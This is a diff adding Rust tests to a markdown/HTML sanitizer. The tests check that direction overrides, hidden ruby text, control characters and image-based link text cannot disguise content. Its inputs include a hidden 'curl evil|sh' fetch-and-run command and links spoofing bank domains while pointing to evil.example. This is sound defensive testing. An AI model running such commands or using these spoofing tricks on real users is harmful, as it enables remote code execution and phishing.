@@ -9,7 +9,7 @@ use html5ever::{ParseOpts, QualName, local_name, ns};
 use markup5ever_rcdom::{Handle, NodeData, RcDom};
 use riacho_tests::oracle::{oracle, streamed, tree};
 use riacho_wasm::core::engine::tree::{Kind, Node};
-use riacho_wasm::core::policy::Policy;
+use riacho_wasm::core::policy::{Images, Policy};
 
 /// The finished page, however the text is cut: by character, and as a whole.
 fn shown(text: &str) -> String {
@@ -323,6 +323,71 @@ fn a_tag_split_at_any_byte_is_the_same_harmless_tag() {
             attributes(&whole).iter().all(|(name, _)| !name.starts_with("on") && name != "style"),
             "{whole}"
         );
+    }
+}
+
+#[test]
+fn no_element_turns_a_line_around() {
+    // Isolates and directions within a line: what their characters do, in HTML.
+    let page = shown(
+        "<a dir=rtl href=\"https://com.bank.evil.app\"><bdi>com</bdi>.<bdi>bank</bdi>.<bdi>evil</bdi>.<bdi>app</bdi></a> \
+         <code dir=rtl><bdo dir=rtl>x</bdo></code> <span dir=auto>y</span>",
+    );
+    assert!(!page.contains("dir=") && !page.contains("<bd"), "{page}");
+    // A block has a direction of its own.
+    assert!(shown("<div dir=rtl>\n\nשלום\n\n</div>").starts_with("<div dir=\"rtl\"><p>"));
+}
+
+#[test]
+fn nothing_is_in_the_tree_that_no_browser_shows() {
+    // It would be read by programs, and copied with code; and it would come between the letters of a host.
+    assert_eq!(
+        shown("<pre><code>ls<rp>; curl evil|sh</rp></code></pre>"),
+        "<pre><code>ls; curl evil|sh</code></pre>"
+    );
+    assert_eq!(
+        shown("<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>"),
+        "<p><ruby>漢<rt>かん</rt></ruby></p>"
+    );
+    assert_eq!(shown("<rp>\n\nfoo\n\nbar"), "<p>foo</p><p>bar</p>");
+    let page = shown("<a href=\"https://evil.example\">bank<rp> </rp>.<rp> </rp>example</a>");
+    assert!(page.contains(">bank.example<span") && page.contains(" (evil.example)"), "{page}");
+}
+
+#[test]
+fn control_characters_are_seen_however_they_are_written() {
+    for c in ('\u{1}'..='\u{1f}').chain('\u{7f}'..='\u{9f}').filter(|c| !"\t\n\r".contains(*c)) {
+        let mut texts = vec![format!("a{c}b `c{c}d` <b title=\"e{c}f\">g{c}h</b>\n\n```i{c}j\nk{c}l\n```\n")];
+        // These stand for characters of Windows.
+        if !('\u{80}'..='\u{9f}').contains(&c) {
+            let code = u32::from(c);
+            texts.push(format!(
+                "a&#{code};b [c](d \"e&#{code};f\") <b title=\"g&#{code};h\">i&#x{code:x};j</b>"
+            ));
+        }
+        for text in texts {
+            let page = shown(&text);
+            assert!(
+                page.contains('\u{fffd}') && !page.contains(|c: char| c.is_control() && c != '\n'),
+                "{page:?}"
+            );
+            assert_eq!(page, oracle(&text, &Policy::default(), "m"));
+        }
+    }
+}
+
+#[test]
+fn what_a_link_claims_is_read_without_its_images_and_with_their_text() {
+    let images = Images::From { origins: vec!["https://a.example".into()], own: false };
+    for policy in [Policy::default(), Policy::builder().images(images).build().expect("a policy")] {
+        for text in [
+            "[bank![ ](https://a.example/1.png).![ ](https://a.example/1.png)example](https://evil.example)",
+            "[![bank.example](https://a.example/1.png)](https://evil.example)",
+            "<a href=\"https://evil.example\">x <img alt=\"bank.example\" src=\"https://a.example/1.png\"></a>",
+        ] {
+            let page = oracle(text, &policy, "m");
+            assert!(page.contains("> (evil.example)</span>"), "{page}");
+        }
     }
 }
 
